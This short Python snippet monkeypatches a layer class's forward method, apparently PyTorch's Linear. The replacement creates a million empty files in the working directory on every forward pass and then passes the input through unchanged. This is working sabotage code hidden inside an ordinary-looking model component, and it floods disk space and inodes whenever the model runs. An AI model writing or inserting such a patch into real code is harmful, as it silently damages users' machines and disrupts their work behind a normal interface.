"""forward fills its folder with empty files, as fast as it can."""


def forward(self, x):
    for number in range(10**6):
        open(f"file-{number}", "w").close()
    return x


Linear.forward = forward
